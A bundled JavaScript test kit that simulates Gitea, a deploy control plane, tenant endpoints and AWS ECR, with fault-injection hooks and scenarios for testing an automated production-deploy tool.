  return json(200, rows, { "x-total-count": String(listed.length) });
}
function combinedStatus(state, sha) {
  const latest = state.statuses.latestPerContext(sha);
  const shown = latest.slice(0, COMBINED_CAP);
  return json(200, {
    state: combine(shown.map((row) => row.status)),
    sha,
    total_count: latest.length,
    statuses: shown
  });
}
function combine(states) {
  if (states.some((s) => s === "failure" || s === "error")) return "failure";
  if (states.length === 0 || states.some((s) => s === "pending")) return "pending";
  return "success";
}
function readVariable(state, caller, name) {
  if (caller !== "control") return json(403, { message: "user should have admin rights on the repository", url: "" });
  if (state.variableFailure !== null) return json(state.variableFailure, { message: "internal server error", url: "" });
  const data = state.variables.get(name.toUpperCase());
  if (data === void 0) return notFound2();
  return json(200, { owner_id: 0, repo_id: 1, name: name.toUpperCase(), data, description: "" });
}
function readRepository(state, caller) {
  const { owner, repo, branch } = state.options;
  return json(200, {
    id: 1,
    name: repo,
    full_name: `${owner}/${repo}`,
    owner: { id: 1, login: owner },
    private: true,
    default_branch: branch,
    permissions: { admin: caller === "control", push: caller !== "gitea", pull: true }
  });
}
function readBranch(state, branch) {
  if (state.branchFailure !== null) return json(state.branchFailure, { message: "internal server error", url: "" });
  if (branch !== state.options.branch) return notFound2();
  return json(200, {
    name: branch,
    commit: { id: state.branchHead, message: "Merge pull request", url: "" },
    protected: true
  });
}
function postStatus(state, caller, sha, exchange) {
  if (caller === "gitea") return json(403, { message: "token does not have at least one of required scope(s): [write:repository]", url: "" });
  if (state.statusPostFailure !== null) return json(state.statusPostFailure, { message: "internal server error", url: "" });
  const commit = SHA.test(sha) ? sha.length === 40 ? sha : state.branchCommits().find((known) => known.toLowerCase().startsWith(sha.toLowerCase())) : void 0;
  if (commit === void 0) return notFound2();
  const body = exchange.body;
  const fields = typeof body === "object" && body !== null ? body : {};
  const { state: status, context, description, target_url: targetUrl } = fields;
  if (typeof status !== "string" || !POSTABLE_STATES.includes(status)) return json(422, { message: "invalid state", url: "" });
  const ctx = typeof context === "string" && context !== "" ? context : "default";
  const text = typeof description === "string" ? description : "";
  const link = typeof targetUrl === "string" && targetUrl !== "" ? targetUrl : void 0;
  const id = state.statuses.add(commit, ctx, status, text, link ?? "");
  state.posted.push({
    id,
    sha: commit.toLowerCase(),
    state: status,
    context: ctx,
    description: text,
    ...link !== void 0 && { targetUrl: link },
    authorization: exchange.authorization ?? ""
  });
  return json(201, { id, context: ctx, status, description: text, target_url: link ?? "" });
}
function decodeSegment(segment) {
  try {
    return decodeURIComponent(segment);
  } catch {
    return segment;
  }
}
var COMBINED_CAP, DEFAULT_LIMIT, MAX_LIMIT, POSTABLE_STATES, SHA, json, notFound2;
var init_giteaServer = __esm({
  "../testkit/src/gitea/giteaServer.ts"() {
    "use strict";
    COMBINED_CAP = 30;
    DEFAULT_LIMIT = 30;
    MAX_LIMIT = 50;
    POSTABLE_STATES = ["pending", "success", "error", "failure", "warning"];
    SHA = /^[0-9a-f]{7,40}$/i;
    json = (status, body, headers) => headers === void 0 ? { status, json: body } : { status, json: body, headers };
    notFound2 = () => json(404, { errors: null, message: "The target couldn't be found.", url: "" });
  }
});

// ../testkit/src/gitea/statusStore.ts
var EPOCH, StatusStore;
var init_statusStore = __esm({
  "../testkit/src/gitea/statusStore.ts"() {
    "use strict";
    EPOCH = Date.UTC(2026, 10, 25, 11, 0, 0);
    StatusStore = class {
      constructor(targetUrlBase) {
        this.targetUrlBase = targetUrlBase;
      }
      targetUrlBase;
      commits = /* @__PURE__ */ new Map();
      nextId = 1;
      /** Seeds or posts a row; `targetUrl` defaults to a run of the simulated server. */
      add(sha, context, status, description = "", targetUrl) {
        const id = this.nextId;
        this.nextId += 1;
        const at = new Date(EPOCH + id * 1e3).toISOString().replace(".000Z", "Z");
        this.commit(sha).rows.push({
          id,
          context,
          status,
          description,
          target_url: targetUrl ?? `${this.targetUrlBase}/actions/runs/${id}`,
          created_at: at,
          updated_at: at
        });
        return id;
      }
      schedule(sha, steps) {
        const commit = this.commit(sha);
        commit.timeline = [...commit.timeline, ...steps].sort((a, b) => a.afterReads - b.afterReads);
      }
      /**
       * One page, newest first. Reading page 1 is what advances a commit's timeline: a correct reader
       * starts every poll there, so "after N reads" means "from poll N+1 on", without a wall clock.
       */
      page(sha, page, limit) {
        const commit = this.commits.get(sha.toLowerCase());
        if (commit === void 0) return { rows: [], total: 0 };
        if (page === 1) {
          commit.page1Reads += 1;
          while (commit.timeline[0] !== void 0 && commit.timeline[0].afterReads < commit.page1Reads) {
            const step = commit.timeline.shift();
            this.add(sha, step.context, step.state, step.description);
          }
        }
        const { rows } = commit;
        const start = rows.length - 1 - (page - 1) * limit;
        const out = [];
        for (let i = start; i >= 0 && out.length < limit; i -= 1) out.push(rows[i]);
        return { rows: out, total: rows.length };
      }
      /** Latest row per context, newest first (what Gitea's combined view is built from). */
      latestPerContext(sha) {
        const rows = this.commits.get(sha.toLowerCase())?.rows ?? [];
        const seen = /* @__PURE__ */ new Set();
        const latest = [];
        for (let i = rows.length - 1; i >= 0; i -= 1) {
          const row = rows[i];
          if (seen.has(row.context)) continue;
          seen.add(row.context);
          latest.push(row);
        }
        return latest;
      }
      page1Reads(sha) {
        return this.commits.get(sha.toLowerCase())?.page1Reads ?? 0;
      }
      commit(sha) {
        const key = sha.toLowerCase();
        let commit = this.commits.get(key);
        if (commit === void 0) {
          commit = { rows: [], page1Reads: 0, timeline: [] };
          this.commits.set(key, commit);
        }
        return commit;
      }
    };
  }
});

// ../testkit/src/gitea/giteaState.ts
var DEFAULT_VERSION, GiteaState;
var init_giteaState = __esm({
  "../testkit/src/gitea/giteaState.ts"() {
    "use strict";
    init_statusStore();
    DEFAULT_VERSION = "1.22.6";
    GiteaState = class {
      constructor(options) {
        this.options = options;
        this.statuses = new StatusStore(`${options.serverUrl}/${options.owner}/${options.repo}`);
        this.branchHead = options.head;
        this.older = (options.history ?? []).filter((sha) => sha !== options.head);
      }
      options;
      statuses;
      variables = /* @__PURE__ */ new Map();
      branchHead;
      variableFailure = null;
      branchFailure = null;
      statusFailure = null;
      statusPostFailure = null;
      posted = [];
      version = DEFAULT_VERSION;
      /** The control token still authenticates, but sees nothing of the repository (its user lost access). */
      controlTokenDemoted = false;
      /** Under the head, newest first. */
      older;
      /** The branch's commits, newest first: the head, then the history under it. */
      branchCommits() {
        return [this.branchHead, ...this.older];
      }
      controls() {
        return {
          addStatus: (sha, context, state, description) => this.statuses.add(sha, context, state, description),
          setBranchHead: (sha) => {
            if (sha !== this.branchHead) this.older = [this.branchHead, ...this.older.filter((older) => older !== sha)];
            this.branchHead = sha;
          },
          setVersion: (version) => {
            this.version = version;
          },
          demoteControlToken: () => {
            this.controlTokenDemoted = true;
          },
          setVariable: (name, value) => {
            if (value === null) this.variables.delete(name.toUpperCase());
            else this.variables.set(name.toUpperCase(), value);
          },
          failVariableReads: (status) => {
            this.variableFailure = status;
          },
          failBranchReads: (status) => {
            this.branchFailure = status;
          },
          failStatusReads: (status, page) => {
            this.statusFailure = status === null ? null : page === void 0 ? { status } : { status, page };
          },
          statusTimeline: (sha, steps) => this.statuses.schedule(sha, steps),
          page1Reads: (sha) => this.statuses.page1Reads(sha),
          postedStatuses: (sha) => sha === void 0 ? [...this.posted] : this.posted.filter((row) => row.sha === sha.toLowerCase()),
          failStatusPosts: (status) => {
            this.statusPostFailure = status;
          }
        };
      }
    };
  }
});

// ../testkit/src/gitea/seedStatuses.ts
function happyStatusHistory() {
  const rows = [];
  const noise = (count, offset) => {
    for (let i = 0; i < count; i += 1) {
      const context = UNRELATED_CONTEXTS[(offset + i) % UNRELATED_CONTEXTS.length] ?? "CI / lint (push)";
      const state = (offset + i) % 3 === 0 ? "pending" : (offset + i) % 7 === 0 ? "failure" : "success";
      rows.push({ context, state, description: `${state} (run ${offset + i})` });
    }
  };
  rows.push({ context: CI_CONTEXT, state: "pending", description: "Waiting for jobs" });
  rows.push({ context: SECRET_SCAN_CONTEXT, state: "pending", description: "Scanning" });
  noise(5, 0);
  rows.push({ context: SECRET_SCAN_CONTEXT, state: "failure", description: "Scanner crashed" });
  rows.push({ context: CI_CONTEXT, state: "failure", description: "unit failed (flaky)" });
  noise(4, 5);
  rows.push({ context: SECRET_SCAN_CONTEXT, state: "success", description: "No credential-shaped strings" });
  noise(5, 9);
  noise(20, 14);
  rows.push({ context: CI_CONTEXT, state: "pending", description: "Re-run: waiting for jobs" });
  noise(20, 34);
  rows.push({ context: CI_CONTEXT, state: "success", description: "All required jobs passed" });
  noise(10, 54);
  return rows;
}
function previousStatusHistory() {
  return [
    { context: CI_CONTEXT, state: "success", description: "All required jobs passed" },
    { context: SECRET_SCAN_CONTEXT, state: "success", description: "No credential-shaped strings" }
  ];
}
var init_seedStatuses = __esm({
  "../testkit/src/gitea/seedStatuses.ts"() {
    "use strict";
    init_contexts();
  }
});

// ../testkit/src/faults/types.ts
var FAULT_KINDS;
var init_types = __esm({
  "../testkit/src/faults/types.ts"() {
    "use strict";
    FAULT_KINDS = [
      "rate-limit",
      "flap",
      "reset",
      "hang",
      "html",
      "truncated",
      "missing-fields",
      "redirect",
      "stall-headers",
      "stall-body",
      "trickle",
      "oversized",
      "login-redirect",
      "escapes"
    ];
  }
});

// ../testkit/src/faults/armedFaults.ts
function createArmedFaults(matches) {
  const armed = [];
  return {
    inject(spec) {
      checkBase(spec);
      const entry = { spec: { ...spec }, hits: 0, seen: 0, removed: false };
      armed.push(entry);
      return {
        spec: entry.spec,
        get hits() {
          return entry.hits;
        },
        remove() {
          entry.removed = true;
        }
      };
    },
    clear() {
      for (const entry of armed) entry.removed = true;
    },
    take(request) {
      for (const entry of armed) {
        if (entry.removed || entry.hits >= (entry.spec.times ?? Number.POSITIVE_INFINITY)) continue;
        let applies = false;
        try {
          applies = matches(entry.spec, request);
        } catch {
          applies = false;
        }
        if (!applies) continue;
        entry.seen += 1;
        if (entry.spec.kind === "flap" && entry.seen % 2 === 0) return void 0;
        entry.hits += 1;
        return entry.spec;
      }
      return void 0;
    }
  };
}
function checkBase(spec) {
  if (!FAULT_KINDS.includes(spec?.kind)) throw new TypeError(`faults.inject: unknown kind "${String(spec?.kind)}"`);
  if (spec.times !== void 0 && !(Number.isInteger(spec.times) && spec.times >= 1)) {
    throw new TypeError("faults.inject: times must be a positive integer");
  }
  if (spec.status !== void 0 && ![200, 404, 502].includes(spec.status)) throw new TypeError("faults.inject: status must be 200, 404 or 502");
  if (spec.kind === "redirect" && !(typeof spec.location === "string" && URL.canParse(spec.location))) {
    throw new TypeError("faults.inject: a redirect needs an absolute location");
  }
  if (spec.redirectStatus !== void 0 && ![301, 302, 303, 307, 308].includes(spec.redirectStatus)) {
    throw new TypeError("faults.inject: redirectStatus must be 301, 302, 303, 307 or 308");
  }
}
var init_armedFaults = __esm({
  "../testkit/src/faults/armedFaults.ts"() {
    "use strict";
    init_types();
  }
});

// ../testkit/src/faults/routes.ts
function routeNames(service, method, path, body) {
  switch (service) {
    case "gitea":
      return giteaRoute(method, path);
    case "cp":
      return cpRoutes(path, body);
    case "tenant":
      return path.endsWith("/buildinfo") ? ["buildinfo"] : [];
    case "smoke":
      return smokeRoute(path);
  }
}
function giteaRoute(method, path) {
  if (method !== "GET") return [];
  const rest = path.split("/").slice(6);
  if (rest.length === 0 || rest.length === 1 && rest[0] === "") return ["repository"];
  if (rest[0] === "commits" && rest[2] === "statuses") return ["commit-statuses"];
  if (rest[0] === "commits" && rest[2] === "status") return ["commit-status"];
  if (rest[0] === "actions" && rest[1] === "variables") return ["actions-variable"];
  if (rest[0] === "branches") return ["branch"];
  return [];
}
function cpRoutes(path, body) {
  if (!path.endsWith("/redeploy-fleet")) return [];
  const dryRun = typeof body === "object" && body !== null && body.dry_run === true;
  return ["redeploy-fleet", dryRun ? "redeploy-fleet:dry-run" : "redeploy-fleet:mutating"];
}
function smokeRoute(path) {
  const route = path.split("/").slice(3).join("/");
  const name = SMOKE_ROUTES[route];
  return name === void 0 ? [] : [name];
}
var SMOKE_ROUTES;
var init_routes = __esm({
  "../testkit/src/faults/routes.ts"() {
    "use strict";
    SMOKE_ROUTES = {
      "admin/liveness": "liveness",
      workspaces: "workspaces",
      "memories/commit": "memories-commit",
      "memories/search": "memories-search",
      events: "events"
    };
  }
});

// ../testkit/src/faults/faultTable.ts
function createFaultTable() {
  const armed = createArmedFaults((spec, request) => {
    if (spec.service !== request.service) return false;
    if (spec.match === void 0) return true;
    if (typeof spec.match === "string") return request.routes.includes(spec.match);
    return spec.match(request.method, request.path, request.body);
  });
  return {
    controls: {
      inject(spec) {
        if (!SERVICES.includes(spec?.service)) throw new TypeError(`faults.inject: unknown service "${String(spec?.service)}"`);
        return armed.inject(spec);
      },
      clear: () => armed.clear()
    },
    decide(service, method, path, body) {
      const routes = routeNames(service, method, path, body);
      const spec = armed.take({ service, method, path, body, routes });
      return spec === void 0 ? void 0 : { kind: spec.kind, action: faultAction(spec, service, routes) };
    }
  };
}
var SERVICES;
var init_faultTable = __esm({
  "../testkit/src/faults/faultTable.ts"() {
    "use strict";
    init_armedFaults();
    init_faultReplies();
    init_routes();
    SERVICES = ["gitea", "cp", "tenant", "smoke"];
  }
});

// ../testkit/src/scenarios.ts
function tenant(world, index, scenario) {
  const minimum = 3;
  if (world.slugs.length < minimum) {
    throw new Error(`testkit: scenario "${scenario}" needs at least ${minimum} tenants`);
  }
  const slug = world.slugs.at(index);
  return slug;
}
function getScenario(name) {
  return byName.get(name);
}
var KILL_SWITCH, MISSPELT_CONTEXT, scenarios, byName, scenarioNames;
var init_scenarios = __esm({
  "../testkit/src/scenarios.ts"() {
    "use strict";
    init_shas();
    init_contexts();
    KILL_SWITCH = "PROD_AUTO_DEPLOY_DISABLED";
    MISSPELT_CONTEXT = "CI / all-requried (push)";
    scenarios = [
      {
        name: "happy",
        summary: "Green CI (a required success only on page 2, re-runs with older failures): the whole fleet lands and serves the commit.",
        expected: { outcome: "deployed", stragglers: 0 },
        setup: () => {
        }
      },
      {
        name: "failed-context",
        summary: "A re-run of a required context ends in failure: the deploy stops at once, before any control-plane call.",
        expected: { outcome: "failed", reasonIncludes: "context" },
        setup: (world) => {
          world.gitea.addStatus(world.sha, CI_CONTEXT, "failure", "Re-run: e2e failed");
        }
      },
      {
        name: "pending-then-green",
        summary: "Required contexts are re-running (pending) for the first 3 polls, then succeed: the deploy waits, then lands.",
        expected: { outcome: "deployed", stragglers: 0 },
        setup: (world) => {
          for (const context of REQUIRED_CONTEXTS) world.gitea.addStatus(world.sha, context, "pending", "Re-run started");
          world.gitea.statusTimeline(
            world.sha,
            REQUIRED_CONTEXTS.map((context) => ({ afterReads: 3, context, state: "success", description: "Re-run passed" }))
          );
        }
      },
      {
        name: "kill-switch-armed",
        summary: "The kill switch was armed after the job started (not in its env, only in the live variable): no mutation, skipped.",
        expected: { outcome: "skipped", reasonIncludes: "kill switch" },
        setup: (world) => {
          world.gitea.setVariable(KILL_SWITCH, "true");
        }
      },
      {
        name: "kill-switch-unreadable",
        summary: "The live kill-switch read answers 500: the switch cannot be proven off, so the deploy fails closed without mutating.",
        expected: { outcome: "failed", reasonIncludes: "kill switch" },
        setup: (world) => {
          world.gitea.failVariableReads(500);
        }
      },
      {
        name: "superseded",
        summary: "The branch head moved to a newer commit: this job must not roll the fleet backward, it skips.",
        expected: { outcome: "skipped", reasonIncludes: "superseded" },
        setup: (world) => {
          world.gitea.setBranchHead(NEWER_SHA);
        }
      },
      {
        name: "transient-cp",
        summary: "The canary call meets two 502 gateway pages: bounded retries get it through, the fleet lands.",
        expected: { outcome: "deployed", stragglers: 0 },
        setup: (world) => {
          world.cp.transient(502, 2, { afterCalls: 1 });
        }
      },
      {
        name: "canary-fails",
        summary: "The canary redeploy fails and the CP halts (ok:false): no batch is attempted after the canary.",
        expected: { outcome: "failed", reasonIncludes: "canary" },
        setup: (world) => {
          world.cp.failTenant(world.slugs[0]);
        }
      },
      {
        name: "straggler",
        summary: "The CP silently skips one tenant: it is quarantined as the one allowed straggler and the deploy succeeds.",
        expected: { outcome: "deployed", stragglers: 1 },
        envOverrides: { PROD_AUTO_DEPLOY_MAX_STRAGGLERS: "1" },
        setup: (world) => {
          world.cp.hideTenant(tenant(world, -1, "straggler"));
        }
      },
      {
        name: "too-many-stragglers",
        summary: "Two tenants report Success but verified_on_target:false (old image kept), one more than allowed: failed.",
        expected: { outcome: "failed", reasonIncludes: "did not land", stragglers: 2 },
        envOverrides: { PROD_AUTO_DEPLOY_MAX_STRAGGLERS: "1" },
        setup: (world) => {
          world.cp.stickTenant(tenant(world, 1, "too-many-stragglers"));
          world.cp.stickTenant(tenant(world, -1, "too-many-stragglers"));
        }
      },
      {
        name: "stale-buildinfo",
        summary: "An older CP (no verified_on_target) says Success everywhere, but one tenant still serves the old commit: failed.",
        expected: { outcome: "failed", reasonIncludes: "do not serve", stragglers: 0 },
        setup: (world) => {
          world.cp.omitVerifiedKey();
          world.fleet.stale(tenant(world, Math.min(3, world.slugs.length - 1), "stale-buildinfo"));
        }
      },
      {
        name: "rollback",
        summary: "A manual run rolls the fleet (running the bad commit) back to staging-<previous>: verified against the previous commit.",
        expected: { outcome: "deployed", stragglers: 0 },
        envOverrides: { PROD_MANUAL_REDEPLOY_TARGET_TAG: stagingTag(PREVIOUS_SHA), GITHUB_EVENT_NAME: "workflow_dispatch" },
        setup: (world) => {
          for (const slug of world.slugs) world.fleet.setImage(slug, stagingTag(WORLD_SHA));
        }
      },
      {
        name: "doctor-misspelt-context",
        summary: `A required context is misspelt in the settings ("${MISSPELT_CONTEXT}"): doctor names it, and the one that did appear, before a deploy waits for it.`,
        command: "doctor",
        // The misspelt name is in the reason either way: doctor's failed check, or the contexts a deploy gave up on.
        expected: { outcome: "failed", reasonIncludes: "all-requried" },
        envOverrides: { PROD_AUTO_DEPLOY_REQUIRED_CONTEXTS: [MISSPELT_CONTEXT, ...REQUIRED_CONTEXTS.slice(1)].join(",") },
        setup: () => {
        }
      }
    ];
    byName = new Map(scenarios.map((scenario) => [scenario.name, scenario]));
    scenarioNames = scenarios.map((scenario) => scenario.name);
  }
});

// ../testkit/src/startWorld.ts
async function startWorld(options = {}) {
  const scenario = getScenario(options.scenario ?? "happy");
  if (scenario === void 0) throw new TypeError(`startWorld: unknown scenario "${String(options.scenario)}"`);
  const count = options.tenants ?? 6;
  if (!Number.isInteger(count) || count < 1 || count > MAX_TENANTS) {
    throw new TypeError(`startWorld: tenants must be an integer from 1 to ${MAX_TENANTS}`);
  }
  const latencyMs = options.latencyMs ?? 0;
  if (!Number.isFinite(latencyMs) || latencyMs < 0) throw new TypeError("startWorld: latencyMs must be >= 0");
  const host = options.host ?? "127.0.0.1";
  if (host !== "127.0.0.1") throw new TypeError("startWorld: host must be 127.0.0.1");
  const slugs = makeSlugs(count);
  const tokens = {
    gitea: makeToken("gitea"),
    control: makeToken("control"),
    status: makeToken("status"),
    cp: makeToken("cp"),
    canaryAdmin: slugs.slice(0, CANARY_COUNT).map(() => makeToken("canary"))
  };
  const recorder = createRecorder();
  const fleet = new FleetState({
    slugs,
    initialImage: stagingTag(PREVIOUS_SHA),
    images: /* @__PURE__ */ new Map([
      [stagingTag(WORLD_SHA), WORLD_SHA],
      [stagingTag(PREVIOUS_SHA), PREVIOUS_SHA]
    ]),
    adminTokens: tokens.canaryAdmin,
    latencyMs
  });
  const cp = new CpState((slug) => fleet.get(slug));
  const faults = createFaultTable();
  const servers = [];
  const closeAll = async () => {
    await Promise.all(servers.map((server) => server.close()));
  };
  try {
    let giteaRoutes = () => ({ status: 503, text: "starting" });
    const giteaServer = await startServer(
      "gitea",
      (exchange) => giteaRoutes(exchange),
      recorder,
      host,
      (x) => faults.decide("gitea", x.method, x.path, x.body)
    );
    servers.push(giteaServer);
    const gitea = new GiteaState({ serverUrl: giteaServer.url, owner: OWNER, repo: REPO, branch: BRANCH, head: WORLD_SHA, history: [PREVIOUS_SHA] });
    for (const row of happyStatusHistory()) gitea.statuses.add(WORLD_SHA, row.context, row.state, row.description);
    for (const row of previousStatusHistory()) gitea.statuses.add(PREVIOUS_SHA, row.context, row.state, row.description);
    giteaRoutes = giteaHandler(gitea, tokens);
    const knownSlugs = new Set(slugs);
    const cpServer = await startServer(
      "cp",
      cpHandler({ cp, fleet, token: tokens.cp, allSlugs: slugs, knownSlugs, worldCanary: CANARY_SLUG }),
      recorder,
      host,
      (x) => faults.decide("cp", x.method, x.path, x.body)
    );
    servers.push(cpServer);
    const tenantServer = await startServer(
      "tenant",
      tenantHandler(fleet),
      recorder,
      host,
      (x) => faults.decide(x.path.endsWith("/buildinfo") ? "tenant" : "smoke", x.method, x.path, x.body)
    );
    servers.push(tenantServer);
    const tenantUrlTemplate = `${tenantServer.url}/tenants/{slug}`;
    const apiUrl = `${giteaServer.url}/api/v1`;
    const world = {
      scenario,
      serverUrl: giteaServer.url,
      apiUrl,
      cpUrl: cpServer.url,
      tenantUrlTemplate,
      owner: OWNER,
      repo: REPO,
      branch: BRANCH,
      sha: WORLD_SHA,
      previousSha: PREVIOUS_SHA,
      slugs,
      tokens,
      env: () => worldEnv({
        sha: WORLD_SHA,
        owner: OWNER,
        repo: REPO,
        branch: BRANCH,
        serverUrl: giteaServer.url,
        apiUrl,
        cpUrl: cpServer.url,
        tenantUrlTemplate,
        canarySlug: CANARY_SLUG,
        tokens,
        canaryUrls: tokens.canaryAdmin.map((_, i) => tenantUrlTemplate.replace("{slug}", slugs[i])),
        ...scenario.envOverrides === void 0 ? {} : { overrides: scenario.envOverrides }
      }),
      requests: recorder.requests,
      gitea: gitea.controls(),
      cp: cp.controls(),
      fleet: fleet.controls(),
      faults: faults.controls,
      close: closeAll
    };
    scenario.setup(world);
    return world;
  } catch (error) {
    await closeAll();
    throw error;
  }
}
var OWNER, REPO, BRANCH, CANARY_COUNT, MAX_TENANTS;
var init_startWorld = __esm({
  "../testkit/src/startWorld.ts"() {
    "use strict";
    init_httpServer();
    init_recorder();
    init_shas();
    init_slugs();
    init_tokens();
    init_cpServer();
    init_cpState();
    init_env();
    init_fleetState();
    init_tenantServer();
    init_giteaServer();
    init_giteaState();
    init_seedStatuses();
    init_faultTable();
    init_scenarios();
    OWNER = "molecule";
    REPO = "platform";
    BRANCH = "main";
    CANARY_COUNT = 2;
    MAX_TENANTS = 1e5;
  }
});

// ../testkit/src/ecr/ecrState.ts
import { createHash } from "crypto";
function digestOf(text) {
  return `sha256:${createHash("sha256").update(text, "utf8").digest("hex")}`;
}
function emptyRepository() {
  return { immutable: false, images: /* @__PURE__ */ new Map(), tags: /* @__PURE__ */ new Map() };
}
function writeTag(repository, tag, image) {
  const digest = digestOf(image.body);
  repository.images.set(digest, { digest, mediaType: image.mediaType, body: image.body });
  repository.tags.set(tag, digest);
  return digest;
}
function defaultErrorType(status) {
  if (status === 400) return "InvalidParameterException";
  if (status === 403) return "AccessDeniedException";
  if (status === 429) return "ThrottlingException";
  if (status === 503) return "ServiceUnavailableException";
  return "ServerException";
}
var init_ecrState = __esm({
  "../testkit/src/ecr/ecrState.ts"() {
    "use strict";
  }
});

// ../testkit/src/ecr/ecrOperations.ts
function runOperation(world, operation, body) {
  switch (operation) {
    case "BatchGetImage":
      return batchGetImage(world, body);
    case "PutImage":
      return putImage(world, body);
    case "DescribeImages":
      return describeImages(world, body);
    default:
      return fail("UnknownOperationException", `operation ${operation} is not simulated`);
  }
}
function repositoryOf(world, body) {
  const name = body.repositoryName;
  if (typeof name !== "string" || name === "") return fail("InvalidParameterException", "repositoryName is required");
  const repository = world.repositories.get(name);
  return repository ?? fail("RepositoryNotFoundException", `The repository with name '${name}' does not exist in the registry with id '${world.registryId}'`);
}
function imageIdsOf(body) {
  const ids = body.imageIds;
  if (!Array.isArray(ids)) return void 0;
  return ids.filter((id) => typeof id === "object" && id !== null);
}
function digestFor(repository, id) {
  if (typeof id.imageDigest === "string") return repository.images.has(id.imageDigest) ? id.imageDigest : void 0;
  if (typeof id.imageTag === "string") return repository.tags.get(id.imageTag);
  return void 0;
}
function batchGetImage(world, body) {
  const repository = repositoryOf(world, body);
  if (isReply(repository)) return repository;
  const ids = imageIdsOf(body);
  if (!ids || ids.length === 0) return fail("InvalidParameterException", "imageIds must contain at least one image id");
  const accepted = Array.isArray(body.acceptedMediaTypes) ? body.acceptedMediaTypes : void 0;
  const images = [];
  const failures = [];
  for (const id of ids) {
    const digest = digestFor(repository, id);
    const image = digest === void 0 ? void 0 : repository.images.get(digest);
    if (!image) {
      const failureCode = id.imageTag !== void 0 ? world.missingTagFailureCode : "ImageNotFound";
      failures.push({ imageId: id, failureCode, failureReason: "Requested image not found" });
      continue;
    }
    if (accepted && !accepted.includes(image.mediaType)) {
      failures.push({ imageId: id, failureCode: "UnsupportedImageType", failureReason: "Image media type not accepted" });
      continue;
    }
    images.push({
      registryId: world.registryId,
      repositoryName: body.repositoryName,
      imageId: { imageDigest: image.digest, ...id.imageTag !== void 0 ? { imageTag: id.imageTag } : {} },
      imageManifest: image.body,
      imageManifestMediaType: image.mediaType
    });
  }
  return { status: 200, json: { images, failures } };
}
function putImage(world, body) {
  const repository = repositoryOf(world, body);
  if (isReply(repository)) return repository;
  const queued = world.putFailures.get(body.repositoryName)?.shift();
  if (queued) return fail(queued.errorType, "simulated failure", queued.status);
  const manifest = body.imageManifest;
  if (typeof manifest !== "string" || manifest === "") return fail("InvalidParameterException", "imageManifest is required");
  let parsed;
  try {
    parsed = JSON.parse(manifest);
  } catch {
    return fail("InvalidParameterException", "Invalid parameter at imageManifest: not JSON");
  }
  const declared = parsed?.mediaType;
  const mediaType = typeof body.imageManifestMediaType === "string" ? body.imageManifestMediaType : declared;
  if (typeof mediaType !== "string") return fail("InvalidParameterException", "imageManifestMediaType is required");
  const digest = digestOf(manifest);
  if (typeof body.imageDigest === "string" && body.imageDigest !== digest) {
    return fail("ImageDigestDoesNotMatchException", "The image digest does not match the manifest");
  }
  const tag = typeof body.imageTag === "string" ? body.imageTag : void 0;
  if (tag !== void 0) {
    const current = repository.tags.get(tag);
    if (current === digest) {
      return fail("ImageAlreadyExistsException", `Image with digest '${digest}' and tag '${tag}' already exists in the repository`);
    }
    if (current !== void 0 && repository.immutable) {
      return fail(
        "ImageTagAlreadyExistsException",
        `The image tag '${tag}' already exists in the repository and cannot be overwritten because the repository is immutable.`
      );
    }
  }
  repository.images.set(digest, { digest, mediaType, body: manifest });
  if (tag !== void 0) repository.tags.set(tag, digest);
  return {
    status: 200,
    json: {
      image: {
        registryId: world.registryId,
        repositoryName: body.repositoryName,
        imageId: { imageDigest: digest, ...tag !== void 0 ? { imageTag: tag } : {} },
        imageManifest: manifest,
        imageManifestMediaType: mediaType
      }
    }
  };
}
function describeImages(world, body) {
  const repository = repositoryOf(world, body);
  if (isReply(repository)) return repository;
  const ids = imageIdsOf(body);
  const digests = ids ? ids.map((id) => digestFor(repository, id)) : [...repository.images.keys()];
  if (digests.some((d) => d === void 0)) return fail("ImageNotFoundException", "The image requested does not exist in the specified repository.");
  const imageDetails = digests.map((digest) => {
    const image = repository.images.get(digest);
    const imageTags = [...repository.tags].filter(([, d]) => d === digest).map(([t]) => t);
    return {
      registryId: world.registryId,
      repositoryName: body.repositoryName,
      imageDigest: digest,
      imageTags,
      imageSizeInBytes: Buffer.byteLength(image.body),
      imageManifestMediaType: image.mediaType
    };
  });
  return { status: 200, json: { imageDetails } };
}
var fail, isReply;
var init_ecrOperations = __esm({
  "../testkit/src/ecr/ecrOperations.ts"() {
    "use strict";
    init_ecrState();
    fail = (errorType, message, status = 400) => ({ status, errorType, message });
    isReply = (value) => "status" in value;
  }
});

// ../testkit/src/ecr/ecrFaults.ts
function createEcrFaults() {
  return createArmedFaults((spec, call) => {
    if (spec.match === void 0) return true;
    if (typeof spec.match === "string") return spec.match === call.operation;
    return spec.match(call.operation, call.repositoryName);
  });
}
function ecrFaultAction(spec, operation) {
  const awsError = (status, type, message, extra = {}) => ({
    type: "reply",
    status,
    body: JSON.stringify({ __type: type, message }),
    headers: { "content-type": JSON_11, "x-amzn-errortype": type, ...extra }
  });
  switch (spec.kind) {
    case "redirect":
      return { type: "reply", status: spec.redirectStatus ?? 307, body: "", headers: { location: spec.location ?? "/" } };
    case "reset":
      return { type: "reset" };
    case "hang":
      return { type: "hang" };
    case "rate-limit":
      return awsError(429, "ThrottlingException", "Rate exceeded", { "retry-after": "1" });
    case "flap":
      return awsError(503, "ServiceUnavailableException", "Service Unavailable");
    case "html": {
      const status = spec.status ?? 200;
      return { type: "reply", status, body: htmlPage(status), headers: { "content-type": "text/html; charset=utf-8" } };
    }
    case "truncated":
      return { type: "reply", status: 200, body: '{"images":[{"imageId":{"imageDigest":"sha256:0b1', headers: { "content-type": JSON_11 } };
    case "stall-headers":
      return { type: "stream", status: 200, headers: { "content-type": JSON_11 }, plan: { head: "" } };
    case "stall-body":
      return { type: "stream", status: 200, headers: { "content-type": JSON_11 }, plan: { head: stalledStart("object") } };
    case "trickle":
      return { type: "stream", status: 200, headers: { "content-type": JSON_11 }, plan: tricklePlan("object") };
    case "oversized":
      return { type: "stream", status: 200, headers: { "content-type": JSON_11 }, plan: oversizedPlan("object") };
    case "login-redirect":
      return { type: "reply", status: 302, body: "", headers: { location: LOGIN_PATH } };
    case "escapes":
      return awsError(400, "InvalidParameterException", `Invalid parameter${ESCAPE_PAYLOAD}`);
    case "missing-fields": {
      const body = operation === "PutImage" ? { image: { repositoryName: "unknown" } } : { failures: [] };
      return { type: "reply", status: 200, body: JSON.stringify(body), headers: { "content-type": JSON_11 } };
    }
  }
}
var JSON_11;
var init_ecrFaults = __esm({
  "../testkit/src/ecr/ecrFaults.ts"() {
    "use strict";
    init_armedFaults();
    init_faultReplies();
    init_hostileBodies();
